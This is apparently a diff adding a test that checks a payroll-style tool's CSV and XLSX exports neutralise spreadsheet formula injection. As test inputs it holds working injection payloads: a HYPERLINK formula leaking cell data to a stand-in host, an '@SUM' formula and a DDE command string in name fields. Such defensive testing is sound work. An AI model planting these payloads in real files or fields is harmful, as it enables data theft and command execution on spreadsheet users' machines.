@@ -134,3 +134,27 @@ def test_export_replaces_atomically_and_cli_option(tmp_path: Path, computed: tup
     ws = load_workbook(out)["Summary"]
     total = next(r for r in ws.iter_rows(values_only=True) if r[0] == "TOTAL")
     assert _num(total[6]) == D("208.57")
+
+
+def test_formula_like_text_is_inert_in_every_csv_and_xlsx_export(tmp_path: Path, catalogue: Catalogue) -> None:
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    w1 = worker("w1", shifts=[{"date": "2025-03-04", "start": "08:00", "end": "16:00"}])
+    w1["name"] = evil
+    w2 = worker("w2", shifts=[{"date": "2025-03-04", "start": "08:00", "end": "16:00"}])
+    w2["name"] = "@SUM(1+1)"
+    data = case([w1, w2], as_of="2025-05-04")
+    data["employer"]["name"] = "+32 cmd|' /C calc'!A0"
+    c = parse_case_data(data)
+    result = compute(c, catalogue)
+    cells: list[str] = []
+    for f in export_csv(result, c, tmp_path / "out"):
+        cells += [x for row in csv.reader(f.read_text(encoding="utf-8-sig").splitlines()) for x in row]
+    assert "'" + evil in cells and "'@SUM(1+1)" in cells
+    assert evil not in cells and "@SUM(1+1)" not in cells
+    # no cell a spreadsheet would run: text starting with = + - @ (numbers here are never negative)
+    assert [x for x in cells if x[:1] in ("=", "+", "@") or (x[:1] == "-" and not x[1:2].isdigit())] == []
+    out = tmp_path / "calc.xlsx"
+    export_xlsx(result, c, out)
+    wb = load_workbook(out)
+    names = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == evil]
+    assert names and all(cell.data_type == "s" for cell in names)  # kept as text, not a formula
